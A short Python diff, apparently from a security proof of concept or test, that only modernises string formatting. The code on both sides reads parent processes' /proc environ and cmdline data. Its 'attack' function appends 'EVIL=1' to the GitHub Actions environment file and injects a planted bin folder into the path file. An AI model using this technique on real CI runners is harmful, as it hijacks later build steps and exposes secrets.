@@ -20,11 +20,11 @@ def read_parents():
     while process > 1:
         for name in ("environ", "cmdline"):
             try:
-                with open("/proc/%d/%s" % (process, name), "rb") as read:
+                with open(f"/proc/{process}/{name}", "rb") as read:
                     yield read.read()
-            except (IOError, OSError):
+            except OSError:
                 pass
-        with open("/proc/%d/status" % process) as status:
+        with open(f"/proc/{process}/status") as status:
             process = next(int(line.split()[1]) for line in status if line.startswith("PPid:"))
 
 
@@ -32,7 +32,7 @@ def attack(name, path, seen):
     if name != b"RUNNER_TEMP":
         with open(path, "a") as lines:
             folder = os.path.dirname(path)
-            lines.write("EVIL=1\n" if name == b"GITHUB_ENV" else "%s/temp/tfcompare/bin\n" % folder)
+            lines.write("EVIL=1\n" if name == b"GITHUB_ENV" else f"{folder}/temp/tfcompare/bin\n")
         return
     with open(os.path.join(os.path.dirname(path), "seen"), "wb") as kept:
         kept.write(seen)
